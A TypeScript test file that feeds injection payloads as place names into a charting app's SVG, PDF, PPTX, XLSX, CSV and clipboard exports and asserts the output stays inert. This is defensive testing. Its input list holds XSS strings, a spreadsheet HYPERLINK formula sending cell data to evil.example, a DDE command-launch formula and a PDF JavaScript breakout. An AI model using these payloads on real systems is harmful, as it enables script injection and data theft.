import { strFromU8, unzipSync } from 'fflate';
import { SaxesParser } from 'saxes';
import { describe, expect, it } from 'vitest';
import type { ChartContext } from '#charts/definition.ts';
import { sampleOverview } from '#charts/overview.fixture.ts';
import { chartIds, chartOf } from '#charts/registry.ts';
import { serverDocument } from '#charts/static/document.ts';
import { renderFigure } from '#charts/static/render-figure.ts';
import { words as text } from '#domain/terms/term.ts';
import type { Overview } from '#domain/overview.ts';
import { checkGlyphs } from '#server/exporting/fonts.ts';
import { toPdf } from '#server/exporting/pdf/to-pdf.ts';
import { chartSlide } from '#server/exporting/pptx/chart-slide.ts';
import { toPptx } from '#server/exporting/pptx/to-pptx.ts';
import { toCsv } from '#server/exporting/to-csv.ts';
import { toXlsx } from '#server/exporting/to-xlsx.ts';
import { tableCopies } from '#web/shell/figure-copies.ts';

/** Families of bad input: markup, formulas, Unicode, PDF syntax. `drawn`: every character of it is in one of the fonts. */
const names: readonly (readonly [name: string, drawn: boolean])[] = [
  ['<img src=x onerror=window.__xss=1>', true],
  ['"><svg onload=window.__xss=1>', true],
  ['</text><script>window.__xss=1</script><text>', true],
  [']]><script>window.__xss=1</script>', true],
  ['--></title><script>window.__xss=1</script>', true],
  ["<style>@import'//evil.example/x.css'</style>", true],
  ['&lt;img src=x onerror=window.__xss=1&gt;', true],
  ['{{constructor.constructor(1)()}} %7B', true],
  ['=HYPERLINK("http://evil.example/?x="&A1,"click")', true],
  ["=cmd|'/C calc'!A0", true],
  ['\t=1+1', true],
  ['＝1+1', true],
  ['\\) /JS (app.alert(1)) (', true],
  ['a\u0000\u0001\u000b\u0007z', true],
  ['é e\u0301 髙﨑 𠮷野 岛宫县亿', true],
  ['x'.repeat(300), true],
  ['長い名前'.repeat(2500), true],
  ['شركة 12', false],
  ['\u{13000}', false],
];
const made_at = '2021-04-16T08:00:00.000Z';

function named(name: string): Overview {
  return {
    ...sampleOverview,
    zone: { ...sampleOverview.zone, name: text(name, name, name), short_name: text(name, name, name) },
    targets: sampleOverview.targets.map((row) => ({ ...row, name: text(name, name, name), target_source: text(name, name, name) })),
    strip: {
      ...sampleOverview.strip,
      groups: sampleOverview.strip.groups.map((group) => ({
        ...group,
        rows: group.rows.map((row) => ({ ...row, dots: row.dots.map((dot) => ({ ...dot, name })) })),
      })),
    },
  };
}
/** Fails with the parser's words when a text is not well-formed; gives the names of its elements. */
function elements(xml: string): ReadonlySet<string> {
  const found = new Set<string>();
  const parser = new SaxesParser();
  parser.on('error', (error) => {
    throw error;
  });
  parser.on('opentag', ({ name, attributes }) => {
    found.add(name);
    for (const attribute of Object.keys(attributes)) if (/^on|^style$|href$/i.test(attribute)) found.add(`@${attribute}`);
  });
  parser.write(xml).close();
  return found;
}

const cases = names.map(([name, drawn]) => ({ shown: JSON.stringify(name).slice(0, 60), name, drawn }));

describe.each(cases)('$shown as every name of a register', ({ name, drawn }) => {
  const overview = named(name);
  const context: ChartContext = { language: 'zh-CN', options: {} };

  it.each(chartIds)('is text in each form of %s, or the form fails by naming what no font has', async (id) => {
    const svg = renderFigure(serverDocument, { id, overview, language: 'zh-CN', theme: 'light', size: 'a4', options: {} });
    for (const forbidden of ['script', 'foreignObject', 'image', 'style', 'a', '@onerror', '@onload', '@style', '@href'])
      expect(elements(svg)).not.toContain(forbidden);
    expect(svg.length).toBeLessThan(400_000);
    // every chart's picture becomes a page in the same way, and the one of the projects has the most names
    const pdf = id !== 'pipeline' ? undefined : toPdf([svg], { title: name, subject: name, keywords: name, made_at, language: 'zh-CN' });
    if (drawn) {
      checkGlyphs(svg);
      if (pdf !== undefined) expect(Buffer.from(await pdf).toString('latin1')).not.toMatch(/\/JavaScript|\/OpenAction|\/Launch/);
    } else {
      expect(() => checkGlyphs(svg)).toThrow(/no font here has/);
      if (pdf !== undefined) await expect(pdf).rejects.toThrow(/no font here has/);
    }

    const deck = unzipSync(
      toPptx([chartSlide(id, overview, context, undefined)], { title: name, subject: name, made_at, language: 'zh-CN' }),
    );
    for (const [part, bytes] of Object.entries(deck)) if (!part.endsWith('.xlsx')) elements(strFromU8(bytes));
    const table = chartOf(id).toTable(overview, context);
    const words = chartOf(id).words(overview, context);
    const book = unzipSync(toXlsx(table, words, 'zh-CN'));
    for (const bytes of Object.values(book)) elements(strFromU8(bytes));
    expect(strFromU8(book['xl/worksheets/sheet1.xml'] ?? new Uint8Array())).not.toContain('<f>');
    expect(toCsv(table, words, { excel: true, language: 'zh-CN' })).not.toMatch(/(^|[,\n]"?)[=＝@]/);
    const rows = table.rows.map((row) => Object.fromEntries(table.columns.map((column, at) => [column.id, row[at] ?? null])));
    const copies = tableCopies({ title: words.title, columns: table.columns, rows });
    elements(copies.html);
    expect(copies.plain.split('\n')).toHaveLength(table.rows.length + 1);
    expect(copies.plain).not.toMatch(/(^|[\t\n])[=＝@]/);
  });
});
